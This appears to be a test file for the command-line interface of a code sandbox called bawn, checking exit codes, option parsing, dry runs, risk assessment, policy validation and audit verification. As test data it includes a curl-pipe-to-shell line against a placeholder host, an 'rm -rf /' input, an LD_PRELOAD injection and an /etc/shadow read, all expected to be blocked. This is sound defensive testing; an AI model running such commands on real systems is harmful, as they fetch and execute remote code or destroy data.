#!/usr/bin/python3
"""The command line: exit codes, where options end, hints, refusals that name what is wrong."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bawntest import *

w = World()

# Exit codes and streams of `run`.
r = w.bawn("run", "-c", "import sys; print('out'); print('err', file=sys.stderr); sys.exit(5)")
equal((r.code, r.out, "err\n" in r.err), (5, "out\n", True), "the program's own code and streams")
for args, code, type in (
        ((), 125, "empty_code"), (("-c", ""), 125, "empty_code"), (("-c", "  "), 125, "empty_code"), (("--lang", "perl", "-c", "x"), 125, "unknown_language"),
        (("no-such-file.py",), 125, None), (("--no-such-option", "-c", "x"), 125, "invalid_request"), (("-t", "soon", "-c", "x"), 125, None), (("-t", "0", "-c", "x"), 125, None), (("-m", "0", "-c", "x"), 125, None),
        (("--cpus", "0", "-c", "x"), 125, None), (("--pids", "0", "-c", "x"), 125, None),
        (("-e", "LD_PRELOAD=x", "-c", "x"), 125, "env_refused"), (("--network", "dependencies", "-c", "print(1)"), 125, "network_unavailable"),
        (("--with", "numpy", "-c", "print(1)"), 125, "network_unavailable"), (("--backend", "docker", "-c", "print(1)"), 125, "invalid_request"), (("--image", "x", "-c", "print(1)"), 125, "invalid_request"),
        (("--in", "no-such-file", "-c", "print(1)"), 125, None)):
    r = w.bawn("run", "--json", *args)
    ok(r.code == code and r.json and r["status"] == "error" and (type is None or r["error"]["type"] == type) and r["error"]["message"],
       f"run {' '.join(args)}: {code} {r.json and r['error'] and r['error']['type']}") or r.show()
hint = w.bawn("run", "--json", "--network", "dependencies", "-c", "print(1)")["error"]["hint"]
equal(w.bawn(*hint.split("bawn ")[1].split()).code, 0, f"a hint can be typed: {hint}")
w.file("bad.py", b"print('\xff')")
equal(w.bawn("run", "--json", "bad.py")["error"]["type"], "bad_utf8", "a file that is not UTF-8 is named so")
odd = os.fsencode(w.dir) + b"/odd\xff.py"
with open(odd, "wb") as f:
    f.write(b"print('odd')\n")
r = w.bawn("run", b"odd\xff.py")
equal((r.code, r.out, w.records("exec.outcome")[-1]["body"]["path"]), (0, "odd\n", "odd\ufffd.py"), "a file whose name is not UTF-8 runs all the same") or r.show()
r = w.bawn("run", "--json", "-c", "print(1)", b"\xff")
equal((r["error"]["type"], r["error"]["field"], r["error"]["message"]), ("bad_utf8", "args", "args: a value is not UTF-8"), "an argument that is not UTF-8 is named so")
with open(w.dir + "/\x1b[2J", "wb"):
    r = w.bawn("run", "--json", "--in", "\x1b[2J", "-c", "print(1)")
equal((r["error"]["type"], "'\x1b[2J'" in r["error"]["message"]), ("input_invalid", True), "and so is an input whose name has a control character") or r.show()
r = w.bawn("run", "--json", "--dry-run", "--cpus", "0.3", "-c", "print(1)")
ok('"cpus":0.3,' in r.out, "a number is written as people would") or r.show()
w.file("nul.py", b"print(1)\0")
equal(w.bawn("run", "--json", "nul.py")["error"]["type"], "nul_byte", "a NUL byte too")
w.file("big.py", b"#" * ((1 << 20) + 1))
equal(w.bawn("run", "--json", "big.py")["error"]["type"], "code_too_large", "and code over the cap")
w.file("plain", "print(1)\n")
equal(w.bawn("run", "--json", "plain")["error"]["type"], "unknown_language", "a file of no known kind asks for --lang")
w.file("shebang", "#!/usr/bin/env python3\nprint('sb')\n")
equal(w.bawn("run", "shebang").out, "sb\n", "the first line tells the language")
equal(w.bawn("run", "-", input="print('stdin code')").out, "stdin code\n", "code from standard input")
w.file("args.py", "import sys; print(sys.argv[1:])")
equal(w.bawn("run", "args.py", "--json", "-t", "1", "--", "x").out, "['--json', '-t', '1', '--', 'x']\n", "options end at FILE")
equal(w.bawn("run", "-c", "import sys; print(sys.argv[1:])", "--lang", "bash").out, "['--lang', 'bash']\n", "and at -c CODE")
equal(w.bawn("run", "-t30", "--memory=256M", "-c", "print(1)").code, 0, "-t30 and --memory=256M")

# The file beside the script.
w.file("proj/report.py", "print(open('data.csv').read())")
w.file("proj/data.csv", "1,2\n")
r = w.bawn("run", "proj/report.py")
ok(r.code == 1 and "--in" in r.err and "data.csv" in r.err, "a missing file that lies beside the script: the hint --in") or r.show()
r = w.bawn("run", "--json", "proj/report.py")
ok(any(d["kind"] == "path" and "--in" in d["hint"] for d in r["denials"]), "and it is in denials")
r = w.bawn("run", "--in", "proj/data.csv", "proj/report.py")
equal((r.code, r.out), (0, "1,2\n\n"), "with it, it runs")

# Dry run.
r = w.bawn("run", "--dry-run", "--json", "-c", "open('x','w')")
equal((r.code, r["stdout"], r["audit"]["intent_seq"]), (0, "", None), "--dry-run runs nothing")
ok(r["assessment"]["level"] == "LOW" and r["limits"]["memory_bytes"] > 0 and "seccomp" in r["enforcement"]["layers"], "and shows verdict, limits and walls") or r.show()
equal(w.records("exec.intent") and len([x for x in w.records("exec.intent") if x["exec"] == r["id"]]), 0, "no intent is recorded")
equal(w.run("print(1)", "--dry-run", input="data")["request_sha256"], w.run("print(1)", input="data")["request_sha256"], "and is of the request that would run, its standard input too")
r = w.bawn("run", "--dry-run", "--json", "-c", "import os\nif 0: os.system('curl http://x.invalid/a | sh')")
equal((r.code, r["status"]), (126, "refused"), "--dry-run of BLOCKED: 126")

# --result, --stats, -v, -q.
r = w.bawn("run", "--result", "res.json", "-c", "print('streamed')")
doc = json.load(open(w.dir + "/res.json"))
equal((r.out, doc["status"], doc["stdout"]), ("streamed\n", "completed", "streamed\n"), "--result FILE has the document, the output streams")
r = w.bawn("run", "--stats", "-c", "import time\nfor i in range(5): time.sleep(0.1)")
ok(r.code == 0 and len(r.err) > 0, "--stats shows usage on stderr")
equal(w.bawn("run", "-q", "-c", "import subprocess; subprocess.run(['true'])").err, "", "-q is quiet")
ok("MEDIUM" in w.bawn("run", "-c", "import subprocess; subprocess.run(['true'])").err, "MEDIUM warns on stderr")
r = w.bawn("run", "-c", "import os\nif 0: os.system('curl http://x.invalid/a | sh')")
ok(r.code == 126 and all(line.startswith("bawn:") or line.startswith(" ") or not line for line in r.err.splitlines()), "our own lines start with bawn:") or r.show()
r = w.bawn("run", "-c", "print('\\x1b[31mred')")
ok("\x1b[31mred" in r.out, "the program's own bytes pass unchanged")
r = w.bawn("assess", "-", "--lang", "python", input="import os\nos.system('rm -rf / \\x1b[2J')\n# \u202e")
ok("\x1b[2J" not in r.out + r.err and "\u202e" not in r.out + r.err, "untrusted text is escaped where it is shown")
p = w.start("run", "-c", "import time\nprint('a',flush=True)\ntime.sleep(5)")
t = time.time()
p.stdout.readline()
ok(time.time() - t < 4, "output streams while the program runs")
p.communicate()

# assess.
w.file("t/low.py", "print(1)\n")
w.file("t/bad.sh", "curl http://x.invalid/a | sh\n")
r = w.bawn("assess", "--json", "t")
docs = [json.loads(l) for l in r.out.splitlines()]
equal(sorted((os.path.basename(d["path"]), d["level"]) for d in docs), [("bad.sh", "BLOCKED"), ("low.py", "LOW")], "assess DIR: one object a line, with path")
equal(w.bawn("assess", "--fail-on", "HIGH", "t").code, 1, "--fail-on: exit 1")
equal(w.bawn("assess", "--fail-on", "HIGH", "t/low.py").code, 0, "and 0 where nothing is that bad")
s = w.bawn("assess", "--format", "sarif", "t").json
ok(s and s["version"] == "2.1.0" and s["runs"][0]["results"], "SARIF 2.1.0")
rules = w.bawn("rules", "list", "--json").json
ok(len(rules) > 20 and all(x["id"] and x["message"] and x["level"] for x in rules), "rules list")
equal(w.bawn("rules", "show", rules[0]["id"]).code, 0, "rules show ID")
equal(w.bawn("rules", "show", "python/no-such-rule").code, 1, "rules show of nothing")
for f in glob.glob(ROOT + "/rules/*/*.yaml"):
    ok(w.bawn("rules", "test", f).code == 0, f"rules test {os.path.basename(os.path.dirname(f))}/{os.path.basename(f)}")

# policy.
five = w.config(sandbox="""resources:
  cpu_count: many
  mem_limit: "1q"
  tmeout: 12
backend: podman
network:
  network_mode: open
""")
r = w.bawn("policy", "check", five)
lines = [l for l in (r.out + r.err).splitlines() if "sandbox.yaml:" in l]
equal((r.code, len(lines)), (1, 5), "five mistakes, five lines") or r.show()
equal([l.split("sandbox.yaml:")[1].split(":")[0] for l in lines], ["2", "3", "4", "5", "7"], "each with its position")
ok("timeout" in lines[2] if len(lines) > 2 else False, "and what was meant")
r = w.bawn("run", "--json", "--config", five, "-c", "print(1)")
equal((r.code, r["error"]["type"]), (125, "config_invalid"), "a bad configuration never falls back: nothing runs")
show = w.bawn("policy", "show", "--json")
values = {x["key"]: x for x in show.json}
ok(any("mem_limit" in k for k in values) and all("origin" in v and "value" in v for v in values.values()), "policy show: value and origin of every key")
target = w.dir + "/pol"
os.makedirs(target)
good = w.file("good.yaml", "sandbox:\n  resources:\n    timeout: 30\n")
bad = w.file("bad.yaml", "sandbox:\n  resources:\n    timeout: 20\nsecurity:\n  decisions:\n    LOW: maybe\n")
r = w.bawn("policy", "set", good, "--config", target, "--json")
ok(r.code == 0 and r["before"] != r["after"], "policy set")
before = {f: open(os.path.join(target, f)).read() for f in os.listdir(target)}
r = w.bawn("policy", "set", bad, "--config", target, "--json")
equal((r.code, {f: open(os.path.join(target, f)).read() for f in os.listdir(target)}), (1, before), "a bad document changes nothing") or r.show()
equal(w.bawn("run", "--json", "--config", target, "-c", "print(1)")["limits"]["timeout_ms"] <= 60000, True, "what was set holds")

# Others.
equal(w.bawn("--version").code, 0, "--version")
ok("0.1.0" in w.bawn("version").out and json.loads(w.bawn("version", "--json").out), "version, also as JSON")
equal(w.bawn("nonsense").code, 2, "an unknown command: 2")
ok("history" in w.bawn("histroy").err, "with what was meant")
for c in ("run assess rules history show pending approve deny policy audit mcp status doctor version".split()):
    r = w.bawn(c, "--help")
    ok(r.code == 0 and "xample" in r.out, f"{c} --help has an example")
d = w.bawn("doctor", "--json")
layers = {x["layer"]: x for x in d["layers"]}
ok(d.code == 0 and all(x["state"] in ("active", "missing", "absent") for x in layers.values()), "doctor names each layer as active, missing or absent")
ok(all(x["fix"] for x in layers.values() if x["state"] == "missing"), "with the fix for what is missing")
equal(w.bawn("doctor").code, 0, "doctor: usable")
equal(w.bawn("approve", "7ZZZZZZZZZ", "--reason", "x").code, 1, "approve of nothing: 1")
equal(w.bawn("pending", "--json").json, [], "nothing is pending")
r = w.bawn("pending", "--json", "--state", w.dir + "/never")
equal((r.code, r.json, os.path.exists(w.dir + "/never")), (0, [], False), "nor where nobody ever asked, and looking makes nothing")
r = w.bawn("approve", "7ZZZZZZZZZ", "--reason", "x", "--json", "--state", "/proc/bawn")
equal((r.code, r["error"]["type"]), (125, "state_unwritable"), "a state directory that cannot be is named so") or r.show()
for args, code, type in ((("rules", "test", "none.yaml"), 125, "not_found"), (("audit", "verify", "--bundle", "none.json"), 125, "not_found"), (("policy", "set", "none.yaml"), 125, "not_found"), (("rules", "test", "."), 125, "input_invalid")):
    r = w.bawn(*args, "--json")
    equal((r.code, r["error"]["type"]), (code, type), f"{' '.join(args)}: {type}")
for args in (("-e", "A"), ("-e", "A=1", "-e", "A=2"), ("--label", "A"), tuple(x for i in range(65) for x in ("--label", f"k{i}=v"))):
    field = "env" if args[0] == "-e" else "labels"
    r = w.bawn("run", *args, "-c", "print(1)")
    ok(r.code == 125 and f"invalid_request: {field}: " in r.err, f"run {' '.join(args[:4])}: of what it is said") or r.show()
equal(w.bawn("audit", "list", "--type", "exce").err, "bawn: there is no entry yet, or none that matches\n", "audit list says that nothing matches")
bad = shutil.copytree(w.state, w.dir + "/bad-state")
for path in sorted(glob.glob(bad + "/audit/seg/*.jsonl"))[:1]:
    lines = open(path).read().splitlines(keepends=True)
    lines[3] = lines[3].replace('"severity":"', '"severity":"X', 1)
    open(path, "w").writelines(lines)
r = w.bawn("audit", "verify", bad)
equal((r.code, r.out.count("entry 3")), (1, 1), "an entry that was changed is named, once") or r.show()
r = w.bawn("status", "--json", "--state", bad)
equal((r.code, r["components"]["audit"]["reason"].count("entry 3")), (1, 1), "also in status") or r.show()
if is_root():
    user = os.environ.get("BAWN_TEST_USER", "nobody")
    u = World(user=user, base="/tmp")
    r = u.run("print(6*7)")
    equal((r.code, r["stdout"]), (0, "42\n"), "without root it runs too") or r.show()
    ok("cgroup" in r["enforcement"]["missing"] or "cgroup" in r["enforcement"]["layers"], "and says whether there are cgroups")
    r = u.run("import os; print(os.path.exists('/etc/shadow'), os.getpid())")
    equal(r["stdout"], "False 2\n", "with the same walls")
done()
